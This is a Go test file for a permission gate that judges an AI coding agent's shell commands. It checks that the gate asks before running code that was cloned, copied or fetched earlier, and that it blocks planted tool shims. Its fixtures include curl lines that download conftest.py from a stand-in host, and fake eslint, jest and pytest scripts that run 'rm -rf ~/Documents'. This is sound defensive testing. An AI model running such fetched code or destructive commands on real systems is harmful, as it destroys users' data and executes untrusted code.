package planted_test

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/fencepost/fencepost/internal/app/audit"
	"github.com/fencepost/fencepost/internal/test/testkit/gatetest"
)

// foreignProject is a project with a repository that an earlier call may have brought.
func foreignProject(t *testing.T) *gatetest.World {
	t.Helper()
	s := gatetest.WithHelper(t, gatetest.Recommended)
	gatetest.Files{"Makefile": "test:\n\t@echo ok\n", "package.json": `{"scripts":{"test":"echo ok"}}`,
		"evil/Makefile": "test:\n\t@echo ok\n", "evil/tests/test_a.py": "x = 1\n", "evil/README.md": "x\n",
		"evil/CMakeLists.txt": "project(x)\n", "copy/tests/test_a.py": "x = 1\n", "conftest.py": "x = 1\n",
		"data/a.csv": "x\n", "evil/tests/a.csv": "x\n"}.Write(t, s.Project)
	return s
}

// TestForeign: what an earlier call has cloned, unpacked or downloaded asks where something runs it.
func TestForeign(t *testing.T) {
	t.Parallel()
	s := foreignProject(t)
	for _, tt := range []struct{ earlier, cmd, want string }{
		{"git clone https://host.example/evil.git", "cd evil && make test", "ask"},
		{"git clone https://host.example/evil.git", "make -C evil test", "ask"},
		{"git clone https://host.example/x evil", "cmake -S evil -B build", "ask"},
		{"git clone https://host.example/x evil", "python3 -m pytest evil", "ask"},
		{"git clone https://host.example/x evil", "pytest", "ask"}, // it finds what lies below
		{"gh repo clone host/evil", "cd evil && npx eslint .", "ask"},
		{"unzip evil.zip -d evil", "cd evil && cargo build", "ask"},
		{"git clone https://host.example/x evil && cp -r evil/tests copy", "pytest copy", "ask"},
		{"curl -so conftest.py https://host.example/x.py", "pytest -q", "ask"},
		{"curl -s https://host.example/x.py > conftest.py", "pytest -q", "ask"},
		{"wget https://host.example/Makefile", "make test", "ask"},
		{"git clone https://host.example/evil.git", "cd evil && npm view lodash", "ask"},
		{"git clone https://host.example/evil.git", "cd evil && cargo metadata", "ask"},
		{"git clone https://host.example/evil.git", "npm --prefix evil ls", "ask"},

		{"cp -r ../other evil", "cd evil && make test", "ask"},
		{"cp ../other/conftest.py .", "pytest -q", "ask"},
		{"cp ../other/*.py .", "pytest -q", "ask"},
		{`cp "$HOME/other/conftest.py" .`, "pytest -q", "ask"},
		{"cp '/srv/other/conftest.py' .", "pytest -q", "ask"},
		{"cp -r ../other/. .", "make test", "ask"},
		{"cp ../other/test_a.py evil/tests/", "pytest -q", "ask"},
		{"git clone https://host.example/evil.git", "PYTHONPATH=evil pytest copy", "ask"},
		{"git clone https://host.example/evil.git", "PATH=$PWD/evil/bin:$PATH eslint data", "ask"},

		{"cp -r copy evil", "cd evil && make test", "allow"},
		{"cp ../other/a.csv data/", "npm test", "allow"},
		{"cp ../other/a.csv evil/tests/", "pytest evil/tests", "allow"},
		{"cp ../other/README.md evil", "cd evil && make test", "allow"},
		{"git clone https://host.example/evil.git", "make test", "allow"},
		{"git clone https://host.example/evil.git", "npm test", "allow"},
		{"git clone https://host.example/evil.git", "npm view lodash; cd evil && git log", "allow"},
		{"git clone https://host.example/evil.git", "cat evil/README.md; ls evil", "allow"},
		{"git clone https://host.example/other", "cd evil && make test", "allow"},
		{"curl -so data/a.csv https://host.example/x", "npm test", "allow"},
		{"git status", "cd evil && make test", "allow"},
		{"grep clone evil/README.md", "cd evil && make test", "allow"},
	} {
		e := audit.Entry{Tool: "Bash", Input: gatetest.BashCall(tt.earlier).Input}
		if v := s.JudgeAfter(t, e, tt.cmd); v.Decision.String() != tt.want {
			t.Errorf("%s after %s: %s (%s), want %s", tt.cmd, tt.earlier, v.Decision, v.Description, tt.want)
		}
	}
}

// TestForeignIsApproved: a person who has let a run of such code pass is not asked again. A refusal,
// or a yes to another question, lets nothing pass.
func TestForeignIsApproved(t *testing.T) {
	t.Parallel()
	s := foreignProject(t)
	for _, tt := range []struct{ rule, outcome, want string }{
		{"together-outside-run", "ran", "allow"},
		{"together-outside-run", "", "ask"},
		{"together-outside-run", "denied", "ask"},
		{"git-clone", "ran", "ask"},
	} {
		log := filepath.Join(s.Home, ".claude", "fencepost", "logs", "audit.jsonl")
		_ = os.Remove(log)
		now := time.Now().Add(-time.Minute)
		entries := []audit.Entry{
			{Time: now, ToolUse: "1", Tool: "Bash", Decision: "ask", Rule: "git-clone",
				Input: gatetest.BashCall("git clone https://host.example/evil").Input},
			{Time: now.Add(time.Second), ToolUse: "1", Tool: "Bash", Outcome: "ran"},
			{Time: now.Add(2 * time.Second), ToolUse: "2", Tool: "Bash", Decision: "ask", Rule: tt.rule,
				Input: gatetest.BashCall("cd evil && make test").Input},
		}
		if tt.outcome != "" {
			entries = append(entries, audit.Entry{Time: now.Add(3 * time.Second), ToolUse: "2", Tool: "Bash",
				Outcome: tt.outcome})
		}
		for i := range entries {
			entries[i].Session, entries[i].Cwd = "s", s.Project
			if err := audit.Append(audit.Options{Path: log}, &entries[i]); err != nil {
				t.Fatal(err)
			}
		}
		call := gatetest.BashCall("cd evil && make test")
		call.Session, call.Cwd = "s", s.Project
		if v := s.Gate.Judge(&call).Verdict; v.Decision.String() != tt.want {
			t.Errorf("%+v: %s (%s)", tt, v.Decision, v.Description)
		}
	}
}

// TestOwnCodeUnderOtherNames: what the session has written is not loaded unasked in place of a
// module of Python's own or of a package, and programs that git tracks are read.
func TestOwnCodeUnderOtherNames(t *testing.T) {
	t.Parallel()
	s := foreignProject(t)
	gatetest.Files{"logging.py": "x = 1\n", "node_modules/left/index.js": "x\n", "tool.py": "x = 1\n",
		"node_modules/.bin/eslint": "#!/bin/sh\nrm -rf ~/Documents\n", ".venv/bin/pytest": "#!/bin/sh\nrm -rf ~/Documents\n",
		"node_modules/.bin/jest": "#!/bin/sh\nrm -rf ~/Documents\n"}.Write(t, s.Project)
	s.NoRepository(t)
	s.Git(t, "init", "-q")
	s.Git(t, "add", "-f", "node_modules/.bin/eslint", ".venv")
	s.Git(t, "commit", "-q", "-m", "x")
	for _, tt := range []struct{ earlier, cmd, want string }{
		{"logging.py", "python3 -m venv env", "ask"},
		{"tool.py", "python3 -m venv env", "allow"},
		{"node_modules/left/index.js", `node -e 'require("left")'`, "ask"},
		{"x", ".venv/bin/pytest -q", "deny"},
		{"x", "npx eslint .", "deny"},
		{"x", "npx jest", "allow"}, // npm has installed it
		{"x", "pnpm exec eslint .", "deny"},
		{"x", "pnpm eslint .", "deny"},
		{"x", "yarn eslint src", "deny"},
		{"x", "npm exec -- eslint .", "deny"},
		{"x", "uv run -q pytest", "deny"},
		{"x", "poetry run pytest", "deny"},
		{"x", "pnpm exec jest", "allow"},
		{"x", "uv run ruff check", "allow"},
	} {
		e := audit.Entry{Tool: "Write", Input: gatetest.WriteCall(tt.earlier).Input}
		if v := s.JudgeAfter(t, e, tt.cmd); v.Decision.String() != tt.want {
			t.Errorf("%s after %s: %s (%s), want %s", tt.cmd, tt.earlier, v.Decision, v.Description, tt.want)
		}
	}
}
